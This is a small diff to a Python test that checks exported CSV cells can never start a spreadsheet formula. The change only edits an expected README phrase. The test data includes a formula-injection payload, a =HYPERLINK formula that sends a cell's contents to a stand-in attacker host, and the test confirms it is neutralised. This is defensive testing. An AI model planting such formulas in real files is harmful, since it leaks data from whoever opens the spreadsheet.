@@ -120,7 +120,7 @@ def test_the_archive_csv_cells_never_start_a_formula(log: Log, tmp_path: Path) -
     assert newest["namespaces"] == '\'=HYPERLINK("http://attacker.example/?x="&B2,"open")'
     assert newest["objects"].startswith("Pod/=HYPERLINK")  # not at the start of a cell: no formula
     assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
-    assert "drop the quote" in archive.read("README.txt").decode()
+    assert "drop the leading '" in archive.read("README.txt").decode()
 
 
 # -- F9: bidi controls are shown --------------------------------------------------------------------
